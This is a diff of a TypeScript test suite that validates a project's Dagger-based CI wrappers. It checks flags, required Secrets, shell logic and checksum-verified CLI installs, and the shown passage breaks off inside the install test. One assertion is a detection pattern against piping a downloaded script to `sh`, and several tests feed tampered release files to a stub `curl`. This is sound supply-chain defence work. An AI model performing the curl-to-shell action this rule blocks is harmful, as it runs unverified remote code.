@@ -1,185 +1,632 @@
-import { readFileSync } from "node:fs";
-import { join } from "node:path";
-import { describe, expect, it } from "vitest";
+import { execFileSync } from "node:child_process";
+import { createHash } from "node:crypto";
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { dirname, join } from "node:path";
+import { fileURLToPath } from "node:url";
+import { afterAll, describe, expect, it } from "vitest";
 import { parseDocument } from "yaml";
-import { REPO_ROOT } from "../helpers/cli.js";
 
 /**
- * The CI wrappers are thin: every step is a `dagger call`. This suite checks each call against the
- * documented module API (test/dagger/api.expected.json, itself checked against the SDK's introspector),
- * so a renamed function or flag breaks here instead of in a user's pipeline.
+ * The CI wrappers are thin: each job is checkout, install Dagger, ONE `dagger call`, and publishing its
+ * reports. This suite reads both wrappers as the CI systems would (YAML, GitHub expressions evaluated,
+ * shell words split) and checks every call against the documented module API (test/dagger/api.expected.json,
+ * itself checked against the SDK's introspector), so a renamed function or flag, a missing Secret or a bit
+ * of shell logic breaks here instead of in a user's pipeline.
  */
+
+const REPO_ROOT = join(dirname(fileURLToPath(import.meta.url)), "..", "..");
+const GITHUB = "ci/github/slipway.yml";
+const ADO = "ci/azure-devops/azure-pipelines.yml";
+const ADO_ROLLBACK = "ci/azure-devops/rollback.yml";
+const ZEROS = "0".repeat(40);
+
+// --- the documented API -------------------------------------------------------------------------------
 
 interface Arg {
   name: string;
   type: string;
+  default?: unknown;
+  defaultPath?: string;
 }
 interface Fn {
   returns: string;
   args: Arg[];
 }
-interface Api {
-  objects: Record<string, { functions: Record<string, Fn>; fields: Record<string, { type: string }> }>;
+interface ApiObject {
+  functions: Record<string, Fn>;
+  fields: Record<string, { type: string }>;
 }
+const api = JSON.parse(readFileSync(join(REPO_ROOT, "test", "dagger", "api.expected.json"), "utf8")) as { objects: Record<string, ApiObject> };
 
-const api = JSON.parse(readFileSync(join(REPO_ROOT, "test", "dagger", "api.expected.json"), "utf8")) as Api;
+/** The engine's core types, as far as the wrappers chain into them (Dagger API: File.export, Directory.export). */
+const CORE: Record<string, ApiObject> = {
+  File: { functions: { export: { returns: "String!", args: [{ name: "path", type: "String!" }, { name: "allowParentDir", type: "Boolean" }] } }, fields: {} },
+  Directory: { functions: { export: { returns: "String!", args: [{ name: "path", type: "String!" }, { name: "wipe", type: "Boolean" }] } }, fields: {} },
+};
+
+const ENGINE_VERSION = (JSON.parse(readFileSync(join(REPO_ROOT, "dagger.json"), "utf8")) as { engineVersion: string }).engineVersion;
 
 function camel(kebab: string): string {
   return kebab.replace(/-([a-z0-9])/g, (_m, c: string) => c.toUpperCase());
 }
 
-function objectName(type: string): string {
+function typeName(type: string): string {
   return type.replace(/[[\]!]/g, "");
 }
 
-/** Every `call` input of a GitHub step using the Dagger action, and every `dagger ... call` in scripts. */
-function daggerCalls(file: string): string[] {
-  const doc = parseDocument(readFileSync(join(REPO_ROOT, file), "utf8"));
-  expect(doc.errors).toEqual([]);
-  const calls: string[] = [];
-  const visit = (node: unknown): void => {
-    if (Array.isArray(node)) return node.forEach(visit);
-    if (node === null || typeof node !== "object") return;
-    const record = node as Record<string, unknown>;
-    const uses = record.uses;
-    const withs = record.with as Record<string, unknown> | undefined;
-    if (typeof uses === "string" && uses.startsWith("dagger/dagger-for-github") && typeof withs?.call === "string") calls.push(withs.call);
-    for (const value of Object.values(record)) {
-      if (typeof value === "string") {
-        const joined = value.replace(/\\\n\s*/g, " ");
-        for (const m of joined.matchAll(/dagger(?:\s+-m\s+\S+)?\s+call\s+([^\n;|>)]+)/g)) calls.push(m[1] as string);
-      }
-      visit(value);
-    }
-  };
-  visit(doc.toJS());
-  return calls;
+function objectOf(type: string): ApiObject | undefined {
+  return api.objects[typeName(type)] ?? CORE[typeName(type)];
 }
 
-interface CheckedCall {
-  fn: string;
+// --- GitHub expressions (the subset the workflow uses; anything else is an error, never a guess) ----------
+
+function truthy(v: unknown): boolean {
+  return !(v === "" || v === null || v === undefined || v === false || v === 0);
+}
+
+/** Evaluates one `${{ }}` body as GitHub does: && and || return operands, == compares strings ignoring case. */
+function evaluate(source: string, context: Record<string, unknown>): unknown {
+  const tokens = source.match(/'(?:[^']|'')*'|&&|\|\||==|!=|[!(),]|[A-Za-z_][A-Za-z0-9_.-]*|\S/g) ?? [];
+  let at = 0;
+  const peek = () => tokens[at];
+  const take = (expected?: string): string => {
+    const token = tokens[at++];
+    if (token === undefined || (expected !== undefined && token !== expected)) throw new Error(`expression ${JSON.stringify(source)}: expected ${expected ?? "more"}, got ${token ?? "the end"}`);
+    return token;
+  };
+  const primary = (): unknown => {
+    const token = take();
+    if (token === "(") {
+      const value = or();
+      take(")");
+      return value;
+    }
+    if (token === "!") return !truthy(primary());
+    if (token.startsWith("'")) return token.slice(1, -1).replace(/''/g, "'");
+    if (token === "true" || token === "false") return token === "true";
+    if (token === "null") return null;
+    if (peek() === "(") {
+      take("(");
+      const args: unknown[] = [];
+      while (peek() !== ")") {
+        args.push(or());
+        if (peek() === ",") take(",");
+      }
+      take(")");
+      if (token !== "format") throw new Error(`expression ${JSON.stringify(source)}: function ${token} is not modelled here`);
+      const [pattern, ...rest] = args;
+      return String(pattern).replace(/\{(\d+)\}/g, (_m, i: string) => String(rest[Number(i)] ?? ""));
+    }
+    if (!/^[A-Za-z_]/.test(token)) throw new Error(`expression ${JSON.stringify(source)}: unexpected ${token}`);
+    return token.split(".").reduce<unknown>((v, key) => (v !== null && typeof v === "object" ? (v as Record<string, unknown>)[key] : undefined), context);
+  };
+  const comparison = (): unknown => {
+    const left = primary();
+    const op = peek();
+    if (op !== "==" && op !== "!=") return left;
+    take();
+    const right = primary();
+    const equal = typeof left === "string" && typeof right === "string" ? left.toLowerCase() === right.toLowerCase() : left === right;
+    return op === "==" ? equal : !equal;
+  };
+  const and = (): unknown => {
+    let value = comparison();
+    while (peek() === "&&") {
+      take();
+      const right = comparison();
+      value = truthy(value) ? right : value;
+    }
+    return value;
+  };
+  const or = (): unknown => {
+    let value = and();
+    while (peek() === "||") {
+      take();
+      const right = and();
+      value = truthy(value) ? value : right;
+    }
+    return value;
+  };
+  const value = or();
+  if (at !== tokens.length) throw new Error(`expression ${JSON.stringify(source)}: unexpected ${tokens[at]}`);
+  return value;
+}
+
+function interpolate(text: string, context: Record<string, unknown>): string {
+  return text.replace(/\$\{\{([\s\S]*?)\}\}/g, (_m, body: string) => {
+    const value = evaluate(body.trim(), context);
+    return value === null || value === undefined ? "" : String(value);
+  });
+}
+
+// --- shell words (quotes only: anything that would make the script more than one command is refused) -----
+
+/** Why a run script is more than one plain command; empty when it is one. */
+function shellLogic(script: string): string[] {
+  const problems: string[] = [];
+  const checks: Array<[RegExp, string]> = [
+    [/\bjq\b/, "jq"],
+    [/(^|[\s;])(if|then|else|fi|case|for|while|until)\b/, "a shell keyword"],
+    [/&&|\|\|/, "&& or ||"],
+    [/\|/, "a pipe"],
+    [/\$\(|`/, "command substitution"],
+    [/;/, "a ;"],
+    [/[<>]/, "a redirection"],
+    [/\n/, "more than one line"],
+    [/\bHEAD~/, "HEAD~ (misses the other commits of a push)"],
+  ];
+  for (const [pattern, what] of checks) if (pattern.test(script.trim())) problems.push(what);
+  return problems;
+}
+
+/** Splits a one-command script into words: '…' literal, "…" with $VAR and ${VAR} taken from env. */
+function words(script: string, env: Record<string, string>): string[] {
+  const out: string[] = [];
+  let current: string | null = null;
+  const expand = (text: string) =>
+    text.replace(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g, (_m, name: string) => {
+      const value = env[name];
+      if (value === undefined) throw new Error(`$${name} is not in the step's environment`);
+      return value;
+    });
+  const re = /\s+|'([^']*)'|"((?:[^"\\]|\\.)*)"|([^\s'"]+)/g;
+  for (const m of script.trim().matchAll(re)) {
+    if (/^\s+$/.test(m[0])) {
+      if (current !== null) out.push(current);
+      current = null;
+      continue;
+    }
+    const part = m[1] ?? (m[2] !== undefined ? expand(m[2]) : expand(m[3] as string));
+    current = (current ?? "") + part;
+  }
+  if (current !== null) out.push(current);
+  return out;
+}
+
+// --- one dagger call, checked against the API -------------------------------------------------------------
+
+interface Segment {
+  name: string;
+  flags: Map<string, string | true>;
+}
+interface Call {
+  segments: Segment[];
   problems: string[];
 }
 
-/** Checks `fn --flag value ... [chained-fn ...]` against the API. */
-function checkCall(call: string): CheckedCall {
-  // A workflow expression is one opaque word: a flag's value, or (where a flag is expected) flags computed
-  // by an earlier step, which cannot be checked statically.
-  const EXPR = "\u00a7";
-  const words = call.replace(/\$\{\{[\s\S]*?\}\}/g, EXPR).replace(/\$\([A-Za-z_.]+\)/g, EXPR).trim().split(/\s+/).filter((w) => w !== "");
-  const problems: string[] = [];
-  const fnName = camel(words[0] as string);
-  const fn = api.objects.Slipway?.functions[fnName];
-  if (!fn) return { fn: fnName, problems: [`unknown function ${fnName}`] };
-  let i = 1;
-  while (i < words.length && ((words[i] as string).startsWith("--") || words[i] === EXPR)) {
-    if (words[i] === EXPR) {
-      i += 1;
-      continue;
-    }
-    const flag = camel((words[i] as string).slice(2).split("=")[0] as string);
-    const arg = fn.args.find((a) => a.name === flag);
-    if (!arg) problems.push(`${fnName}: unknown flag --${(words[i] as string).slice(2)}`);
-    // Boolean flags take no value in `dagger call`; others consume the next word.
-    i += arg?.type.startsWith("Boolean") || (words[i] as string).includes("=") ? 1 : 2;
-  }
-  const chained = words[i];
-  if (chained !== undefined) {
-    const returned = api.objects[objectName(fn.returns)];
-    // Core types (File, Container, Directory) are the engine's; only our own objects are checked.
-    if (returned && !returned.functions[camel(chained)] && !returned.fields[camel(chained)]) {
-      problems.push(`${fnName}: ${objectName(fn.returns)} has no ${chained}`);
-    }
-  }
-  return { fn: fnName, problems };
+function flag(segment: Segment | undefined, name: string): string | true | undefined {
+  return segment?.flags.get(name);
 }
 
-describe("ci/ wrappers", () => {
-  it.each([["ci/github/slipway.yml"], ["ci/azure-devops/azure-pipelines.yml"]])(
-    "%s only calls documented functions with documented flags",
-    (file) => {
-      const calls = daggerCalls(file).map(checkCall);
-      expect(calls.map((c) => c.fn)).toEqual(expect.arrayContaining(["ci", "scanDependencies", "scanSecrets", "publish", "migrate", "gitopsBump", "recordRelease", "verifyRollout", "markRelease", "rollback"]));
-      expect(calls.flatMap((c) => c.problems)).toEqual([]);
-    },
-  );
+/** `dagger -m MODULE call fn --flag v ... chained --flag v ...`, checked against the API. */
+function checkCall(argv: string[]): Call {
+  const problems: string[] = [];
+  const callAt = argv.indexOf("call");
+  if (argv[0] !== "dagger" || callAt < 0) return { segments: [], problems: [`not a dagger call: ${argv.join(" ")}`] };
+  const before = argv.slice(1, callAt);
+  if (before.length !== 0 && !(before.length === 2 && before[0] === "-m")) problems.push(`unexpected dagger options ${before.join(" ")}`);
+  const segments: Segment[] = [];
+  let object: ApiObject | undefined = api.objects.Slipway;
+  let objectName = "Slipway";
+  let i = callAt + 1;
+  while (i < argv.length) {
+    const name = camel(argv[i] as string);
+    i += 1;
+    const segment: Segment = { name, flags: new Map() };
+    segments.push(segment);
+    const fn: Fn | undefined = object?.functions[name];
+    const field = object?.fields[name];
+    if (!object) {
+      problems.push(`${objectName} is not a type the wrappers may chain into (${name})`);
+      break;
+    }
+    if (!fn && !field) {
+      problems.push(segments.length === 1 ? `unknown function ${name}` : `${objectName} has no ${name}`);
+      break;
+    }
+    const args = fn?.args ?? [];
+    while (i < argv.length && (argv[i] as string).startsWith("--")) {
+      const word = (argv[i] as string).slice(2);
+      const [raw, inline] = word.includes("=") ? [word.slice(0, word.indexOf("=")), word.slice(word.indexOf("=") + 1)] : [word, undefined];
+      const arg = args.find((a) => a.name === camel(raw as string));
+      if (!arg) problems.push(`${name}: unknown flag --${raw}`);
+      // Boolean flags take no value in `dagger call`; the others take the next word.
+      let value: string | true;
+      if (inline !== undefined) value = inline;
+      else if (arg?.type.startsWith("Boolean")) value = true;
+      else {
+        value = argv[i + 1] ?? "";
+        i += 1;
+      }
+      i += 1;
+      segment.flags.set(camel(raw as string), value);
+      if (arg && typeName(arg.type) === "Secret" && (typeof value !== "string" || !/^env:[A-Za-z_][A-Za-z0-9_]*$/.test(value))) {
+        problems.push(`${name}: --${raw} is a Secret and must be env:NAME, not ${JSON.stringify(value)}`);
+      }
+    }
+    for (const arg of args) {
+      const required = arg.type.endsWith("!") && !("default" in arg) && arg.defaultPath === undefined;
+      if (required && !segment.flags.has(arg.name)) problems.push(`${name}: required --${arg.name.replace(/[A-Z]/g, (c) => `-${c.toLowerCase()}`)} is missing`);
+    }
+    const returns = fn?.returns ?? field?.type ?? "";
+    objectName = typeName(returns);
+    object = objectOf(returns);
+  }
+  return { segments, problems };
+}
 
-  it("catches a renamed flag (the check can fail)", () => {
-    expect(checkCall("ci --sauce . summary").problems).toEqual(["ci: unknown flag --sauce"]);
-    expect(checkCall("ci --source . summry").problems).toEqual(["ci: CiRun has no summry"]);
-    expect(checkCall("deploy --source .").problems).toEqual(["unknown function deploy"]);
+// --- the wrappers, read as jobs of steps ------------------------------------------------------------------
+
+type Kind = "checkout" | "install" | "call" | "report" | "publish";
+interface Step {
+  kind: Kind;
+  name: string;
+  /** The script as the CI system hands it to bash (GitHub: `${{ }}` still in it). */
+  script?: string;
+  env: Record<string, string>;
+  always: boolean;
+  raw: Record<string, unknown>;
+}
+interface Job {
+  file: string;
+  id: string;
+  environment?: string;
+  raw: Record<string, unknown>;
+  steps: Step[];
+}
+
+function load(file: string): Record<string, unknown> {
+  const doc = parseDocument(readFileSync(join(REPO_ROOT, file), "utf8"));
+  expect(doc.errors).toEqual([]);
+  return doc.toJS() as Record<string, unknown>;
+}
+
+const INSTALL = "Install Dagger";
+
+function classify(name: string, script: string | undefined, uses: string | undefined, always: boolean): Kind {
+  if (uses?.startsWith("actions/checkout") || uses === "self") return "checkout";
+  if (name === INSTALL) return "install";
+  if (script === undefined) return "publish";
+  return always && /\bexport --path\b/.test(script) ? "report" : "call";
+}
+
+function githubJobs(): Job[] {
+  const wf = load(GITHUB) as { jobs: Record<string, Record<string, unknown>> };
+  return Object.entries(wf.jobs).map(([id, raw]) => ({
+    file: GITHUB,
+    id,
+    raw,
+    ...(typeof raw.environment === "string" ? { environment: raw.environment } : {}),
+    steps: (raw.steps as Array<Record<string, unknown>>).map((s) => {
+      const name = String(s.name ?? s.uses ?? "");
+      const script = typeof s.run === "string" ? s.run : undefined;
+      const always = s.if === "always()";
+      return { kind: classify(name, script, s.uses as string | undefined, always), name, ...(script !== undefined ? { script } : {}), env: (s.env ?? {}) as Record<string, string>, always, raw: s };
+    }),
+  }));
+}
+
+function adoSteps(list: Array<Record<string, unknown>>): Step[] {
+  return list.map((s) => {
+    const inputs = (s.inputs ?? {}) as Record<string, unknown>;
+    const name = String(s.displayName ?? s.task ?? s.checkout ?? "");
+    const script = typeof s.script === "string" ? s.script : s.task === "AzureCLI@2" ? String(inputs.inlineScript) : undefined;
+    const always = s.condition === "always()";
+    const kind = s.checkout !== undefined ? "checkout" : classify(name, script, undefined, always);
+    return { kind, name, ...(script !== undefined ? { script } : {}), env: (s.env ?? {}) as Record<string, string>, always, raw: s };
   });
+}
 
-  it("runs the release only from main, with OIDC and full history", () => {
-    const gh = parseDocument(readFileSync(join(REPO_ROOT, "ci/github/slipway.yml"), "utf8")).toJS() as {
-      jobs: Record<string, { if?: string; permissions?: Record<string, string>; steps: { uses?: string; with?: Record<string, unknown> }[] }>;
+function adoJobs(file: string): Job[] {
+  const pipeline = load(file) as { stages?: Array<{ stage: string; jobs: Array<Record<string, unknown>> }>; jobs?: Array<Record<string, unknown>> };
+  const jobs = pipeline.stages?.flatMap((stage) => stage.jobs.map((job) => ({ stage: stage.stage, job }))) ?? (pipeline.jobs ?? []).map((job) => ({ stage: "", job }));
+  return jobs.map(({ stage, job }) => {
+    const strategy = job.strategy as { runOnce?: { deploy?: { steps: Array<Record<string, unknown>> } } } | undefined;
+    const steps = (job.steps as Array<Record<string, unknown>> | undefined) ?? strategy?.runOnce?.deploy?.steps ?? [];
+    return {
+      file,
+      id: stage || String(job.job ?? job.deployment),
+      raw: job,
+      ...(typeof job.environment === "string" ? { environment: job.environment } : {}),
+      steps: adoSteps(steps),
     };
-    expect(gh.jobs.release?.if).toContain("refs/heads/main");
-    expect(gh.jobs.release?.permissions?.["id-token"]).toBe("write");
-    for (const job of Object.values(gh.jobs)) {
-      const checkout = job.steps.find((s) => s.uses?.startsWith("actions/checkout"));
-      expect(checkout?.with?.["fetch-depth"]).toBe(0);
-      // actions/checkout otherwise keeps the job's token in .git/config, and the source goes into containers.
-      expect(checkout?.with?.["persist-credentials"]).toBe(false);
+  });
+}
+
+const allJobs = (): Job[] => [...githubJobs(), ...adoJobs(ADO), ...adoJobs(ADO_ROLLBACK)];
+
+/** The environment a step's script sees: its own `env:`, the workflow's, and what the runner provides. */
+function stepEnv(job: Job, step: Step, context: Record<string, unknown>): Record<string, string> {
+  const github = job.file === GITHUB;
+  const provided: Record<string, string> = github
+    ? { ACTIONS_ID_TOKEN_REQUEST_URL: "https://token.actions.githubusercontent.example/req", RUNNER_TEMP: "/tmp/runner", HOME: "/home/runner" }
+    : { SYSTEM_OIDCREQUESTURI: "https://dev.azure.example/oidc", AGENT_TEMPDIRECTORY: "/tmp/agent", BUILD_ARTIFACTSTAGINGDIRECTORY: "/a", HOME: "/home/vsts" };
+  const level = github ? ((load(GITHUB).env ?? {}) as Record<string, string>) : { SLIPWAY_MODULE: "github.com/acme/slipway@v0.1.0", DAGGER_VERSION: ENGINE_VERSION.slice(1) };
+  const own = Object.fromEntries(Object.entries(step.env).map(([k, v]) => [k, github ? interpolate(String(v), context) : String(v)]));
+  return { ...provided, ...level, ...own };
+}
+
+function contextFor(event: "pull_request" | "push" | "workflow_dispatch", extra: { before?: string; inputs?: Record<string, string> } = {}): Record<string, unknown> {
+  return {
+    github: { event_name: event, base_ref: event === "pull_request" ? "main" : "", ref: "refs/heads/main", sha: "f".repeat(40), event: { before: extra.before ?? "a".repeat(40) } },
+    inputs: extra.inputs ?? { environment: "prod", to: "" },
+    secrets: new Proxy({}, { get: (_t, name) => `<secret ${String(name)}>` }),
+    vars: {},
+    env: {},
+  };
+}
+
+/** The one dagger call of a script, as bash would run it for that event. */
+function callOf(job: Job, step: Step, context: Record<string, unknown>): Call {
+  const script = job.file === GITHUB ? interpolate(step.script ?? "", context) : (step.script ?? "");
+  const logic = shellLogic(script);
+  if (logic.length > 0) return { segments: [], problems: logic.map((l) => `${job.id} / ${step.name}: ${l}`) };
+  return checkCall(words(script, stepEnv(job, step, context)));
+}
+
+/** The event a job runs for. */
+function eventOf(job: Job): "pull_request" | "push" | "workflow_dispatch" {
+  if (job.file === ADO_ROLLBACK || job.id === "rollback") return "workflow_dispatch";
+  return job.id === "ci" ? "pull_request" : "push";
+}
+
+// --- the suite --------------------------------------------------------------------------------------------
+
+describe("ci/ wrappers", () => {
+  it.each([GITHUB, ADO, ADO_ROLLBACK])("%s: every job is checkout, install Dagger, ONE dagger call, then only report publishing", (file) => {
+    const jobs = allJobs().filter((j) => j.file === file);
+    expect(jobs.length).toBeGreaterThan(0);
+    for (const job of jobs) {
+      const kinds = job.steps.map((s) => s.kind);
+      expect({ job: job.id, kinds: kinds.slice(0, 3) }).toEqual({ job: job.id, kinds: ["checkout", "install", "call"] });
+      expect({ job: job.id, calls: kinds.filter((k) => k === "call").length }).toEqual({ job: job.id, calls: 1 });
+      // After the call only reports: `... export --path` calls and publishing tasks, run also when it failed.
+      for (const step of job.steps.slice(3)) {
+        expect({ job: job.id, step: step.name, kind: step.kind, always: step.always }).toEqual({ job: job.id, step: step.name, kind: expect.stringMatching(/^(report|publish)$/), always: true });
+      }
     }
   });
 
-  // The toolkit container sees nothing of the runner's environment (shared/DAGGER-0.21.md, exec env), and
-  // has no `az`: an Entra ID kubeconfig only works with the job's federated identity passed explicitly.
-  it.each([
-    ["ci/github/slipway.yml", "github-oidc", "--oidc-request-token"],
-    ["ci/azure-devops/azure-pipelines.yml", "azure-pipelines", "--id-token"],
-  ])("%s passes the job's federated identity to verify-rollout", (file, mode, secretFlag) => {
-    // The whole command line (daggerCalls stops at a `)`, which Azure DevOps macros contain).
-    const text = readFileSync(join(REPO_ROOT, file), "utf8").replace(/\\\n\s*/g, " ");
-    const calls = [...text.matchAll(/call (verify-rollout[^\n]*)/g)].map((m) => m[1] as string);
-    expect(calls.length).toBeGreaterThan(0);
-    for (const call of calls) {
-      expect(call).toContain(`--azure-identity ${mode}`);
-      expect(call).toMatch(/--tenant-id \S+/);
-      expect(call).toMatch(/--client-id \S+/);
-      expect(call).toContain(`${secretFlag} env:`);
+  it.each([GITHUB, ADO, ADO_ROLLBACK])("%s: every call and report is a documented function with documented flags, required ones present, Secrets as env:NAME", (file) => {
+    const jobs = allJobs().filter((j) => j.file === file);
+    const called: string[] = [];
+    for (const job of jobs) {
+      for (const step of job.steps.filter((s) => s.kind === "call" || s.kind === "report")) {
+        const call = callOf(job, step, contextFor(eventOf(job)));
+        expect({ job: job.id, step: step.name, problems: call.problems }).toEqual({ job: job.id, step: step.name, problems: [] });
+        called.push(call.segments.map((s) => s.name).join("."));
+      }
+    }
+    const expected = {
+      [GITHUB]: ["ci.verdict", "scanDependencies.sarif.export", "scanSecrets.sarif.export", "release.verdict", "promote.verdict", "promote.verdict", "rollback"],
+      [ADO]: ["ci.verdict", "scanDependencies.junit.export", "scanSecrets.junit.export", "release.verdict", "promote.verdict", "promote.verdict"],
+      [ADO_ROLLBACK]: ["rollback"],
+    }[file];
+    expect(called).toEqual(expected);
+  });
+
+  it("the check can fail: unknown function, flag or chained function, a missing required flag, a literal Secret", () => {
+    const call = (text: string) => checkCall(words(text, {})).problems;
+    expect(call("dagger call ci --sauce . verdict")).toEqual(["ci: unknown flag --sauce", "ci: required --source is missing"]);
+    expect(call("dagger call ci --source . verdit")).toEqual(["CiRun has no verdit"]);
+    expect(call("dagger call deploy --source .")).toEqual(["unknown function deploy"]);
+    expect(call("dagger call release --source . --environment dev --git-token env:T verdict")).toEqual(["release: required --kubeconfig is missing"]);
+    expect(call("dagger call rollback --token ghp_abc --environment prod")).toEqual(['rollback: --token is a Secret and must be env:NAME, not "ghp_abc"']);
+    expect(call("dagger call scan-secrets --source . sarif export --pth x")).toEqual(["export: unknown flag --pth", "export: required --path is missing"]);
+    expect(shellLogic('dagger call publish --source . > p.json\nsets=$(jq -r ".[]" p.json)')).toEqual(["jq", "command substitution", "a redirection", "more than one line"]);
+    expect(shellLogic("dagger call ci --source . --base HEAD~1 verdict")).toEqual(["HEAD~ (misses the other commits of a push)"]);
+    expect(shellLogic('if true; then dagger call ci --source . verdict; fi')).toEqual(["a shell keyword", "a ;"]);
+  });
+
+  it.each([GITHUB, ADO, ADO_ROLLBACK])("%s: each Secret comes from a secret store or the runner, never from the script text", (file) => {
+    for (const job of allJobs().filter((j) => j.file === file)) {
+      for (const step of job.steps.filter((s) => s.kind === "call")) {
+        const call = callOf(job, step, contextFor(eventOf(job)));
+        const fn = api.objects.Slipway?.functions[call.segments[0]?.name ?? ""];
+        for (const [name, value] of call.segments[0]?.flags ?? []) {
+          if (typeName(fn?.args.find((a) => a.name === name)?.type ?? "") !== "Secret") continue;
+          const variable = String(value).slice("env:".length);
+          const source = step.env[variable];
+          if (file === GITHUB && variable === "ACTIONS_ID_TOKEN_REQUEST_TOKEN") {
+            // Set by the runner only with `permissions: id-token: write`.
+            expect({ job: job.id, permissions: job.raw.permissions }).toMatchObject({ job: job.id, permissions: { "id-token": "write" } });
+          } else if (file === GITHUB) {
+            expect({ job: job.id, variable, source }).toEqual({ job: job.id, variable, source: expect.stringMatching(/^\$\{\{ secrets\.[A-Z_]+ \}\}$/) });
+          } else {
+            // A secret variable (of the stage's variable group) or the job's access token, mapped explicitly:
+            // Azure Pipelines never puts secret variables in a script's environment by itself.
+            expect({ job: job.id, variable, source }).toEqual({ job: job.id, variable, source: expect.stringMatching(/^\$\((?:[A-Z_]+|System\.AccessToken)\)$/) });
+          }
+        }
+        expect(step.script).not.toMatch(/secrets\.|\$\((?:GITOPS_TOKEN|KUBECONFIG_CONTENT|DATABASE_URLS|System\.AccessToken)\)/);
+      }
+    }
+  });
+
+  it("pins the Dagger CLI to dagger.json's engineVersion in every wrapper", () => {
+    const version = ENGINE_VERSION.replace(/^v/, "");
+    expect((load(GITHUB).env as Record<string, string>).DAGGER_VERSION).toBe(version);
+    for (const file of [ADO, ADO_ROLLBACK]) {
+      const variables = load(file).variables as Array<{ name?: string; value?: unknown }>;
+      expect(String(variables.find((v) => v.name === "DAGGER_VERSION")?.value)).toBe(version);
+    }
+    for (const job of allJobs()) {
+      const install = job.steps.find((s) => s.kind === "install")?.script ?? "";
+      expect(install).toContain("https://github.com/dagger/dagger/releases/download/v${DAGGER_VERSION}");
+      expect(install).toContain("sha256sum --check --ignore-missing");
+      expect(install).not.toMatch(/install\.sh|\| *sh\b/);
     }
   });
 });
 
-// Issue 14: only a real failed verdict rolls back; timed out (3) or could not check (4) never does.
-describe("ci/ wrappers: rollback only on a failed rollout verdict", () => {
-  it("the GitHub verify step writes the verdict from SLIPWAY_ROLLOUT_VERDICT=, and the rollback step requires `failed`", async () => {
-    const { execFileSync } = await import("node:child_process");
-    const { mkdtempSync, writeFileSync, chmodSync } = await import("node:fs");
-    const { tmpdir } = await import("node:os");
-    const gh = parseDocument(readFileSync(join(REPO_ROOT, "ci/github/slipway.yml"), "utf8")).toJS() as {
-      jobs: Record<string, { steps: { id?: string; name?: string; if?: string; run?: string }[] }>;
-    };
-    const steps = Object.values(gh.jobs).flatMap((j) => j.steps);
-    const verify = steps.find((s) => s.id === "verify");
-    const rollback = steps.find((s) => s.name?.startsWith("Roll back"));
-    expect(rollback?.if).toContain("steps.verify.outputs.verdict == 'failed'");
-    const outcome = (printed: string, code: number): { code: number; output: string } => {
-      const dir = mkdtempSync(join(tmpdir(), "slipway-wrapper-"));
-      writeFileSync(join(dir, "dagger"), `#!/bin/sh\nprintf '%s\\n' 'Error: rollout x' '${printed}' >&2\nexit ${code}\n`);
-      chmodSync(join(dir, "dagger"), 0o755);
-      writeFileSync(join(dir, "out"), "");
-      let status = 0;
-      try {
-        execFileSync("bash", ["-e", "-c", verify?.run ?? ""], { env: { PATH: `${dir}:${process.env.PATH ?? ""}`, RUNNER_TEMP: dir, GITHUB_OUTPUT: join(dir, "out") }, stdio: "pipe" });
-      } catch (error) {
-        status = (error as { status: number }).status;
-      }
-      return { code: status, output: readFileSync(join(dir, "out"), "utf8") };
-    };
-    expect(outcome("", 0)).toEqual({ code: 0, output: "verdict=healthy\n" });
-    expect(outcome("SLIPWAY_ROLLOUT_VERDICT=failed (roll back)", 1)).toEqual({ code: 1, output: "verdict=failed\n" });
-    expect(outcome("SLIPWAY_ROLLOUT_VERDICT=unknown (do not roll back)", 1)).toEqual({ code: 1, output: "verdict=unknown\n" });
-    expect(outcome("SLIPWAY_ROLLOUT_VERDICT=timeout (do not roll back)", 1)).toEqual({ code: 1, output: "verdict=timeout\n" });
-    // An error before any verdict (a bad flag, no engine): no verdict line, so no rollback.
-    expect(outcome("Error: unknown flag", 1)).toEqual({ code: 1, output: "verdict=unknown\n" });
-   }, 60_000);
+describe("ci/ wrappers: the install step", () => {
+  const dirs: string[] = [];
+  afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));
 
-  it("the Azure DevOps rollback step requires verdict `failed`", () => {
-    const text = readFileSync(join(REPO_ROOT, "ci/azure-devops/azure-pipelines.yml"), "utf8");
-    expect(text).toContain("##vso[task.setvariable variable=verdict]${verdict:-unknown}");
-    expect(text).toMatch(/displayName: Roll back to the previous verified release\n\s+condition: and\(failed\(\), ne\(variables\['releaseId'\], ''\), eq\(variables\['verdict'\], 'failed'\)\)/);
+  /** Runs a wrapper's install script with `curl` serving a local release (what the URLs would return). */
+  function install(job: Job, tamper: "none" | "tarball" | "unlisted"): { code: number; stderr: string; urls: string[]; installed: boolean } {
+    const dir = mkdtempSync(join(tmpdir(), "slipway-install-"));
+    dirs.push(dir);
+    const version = ENGINE_VERSION.slice(1);
+    const release = join(dir, "release");
+    const bin = join(dir, "bin");
+    const temp = join(dir, "temp");
+    [release, bin, temp, join(release, "pkg")].forEach((d) => mkdirSync(d, { recursive: true }));
+    writeFileSync(join(release, "pkg", "dagger"), "#!/bin/sh\necho dagger\n", { mode: 0o755 });
+    const tarball = `dagger_v${version}_linux_amd64.tar.gz`;
+    execFileSync("tar", ["-czf", join(release, tarball), "-C", join(release, "pkg"), "dagger"]);
+    const sum = createHash("sha256").update(readFileSync(join(release, tarball))).digest("hex");
+    writeFileSync(join(release, "checksums.txt"), `${"0".repeat(64)}  dagger_v${version}_darwin_arm64.tar.gz\n${tamper === "unlisted" ? "" : `${sum}  ${tarball}\n`}`);
+    if (tamper === "tarball") writeFileSync(join(release, tarball), "not the release");
+    // curl -fsSLO URL: writes the URL's last path segment into the working directory.
+    writeFileSync(join(bin, "curl"), `#!/bin/sh\nfor a; do url="$a"; done\necho "$url" >> "${dir}/urls"\ncp "${release}/\${url##*/}" .\n`, { mode: 0o755 });
+    chmodSync(join(bin, "curl"), 0o755);
+    const home = join(dir, "home");
+    const script = job.steps.find((s) => s.kind === "install")?.script ?? "";
+    const env = { PATH: `${bin}:${process.env.PATH ?? ""}`, HOME: home, DAGGER_VERSION: version, RUNNER_TEMP: temp, AGENT_TEMPDIRECTORY: temp, GITHUB_PATH: join(dir, "github_path") };
+    let code = 0;
+    let stderr = "";
+    try {
+      execFileSync("bash", ["-c", script], { env, cwd: dir, stdio: "pipe" });
+    } catch (error) {
+      code = (error as { status: number }).status;
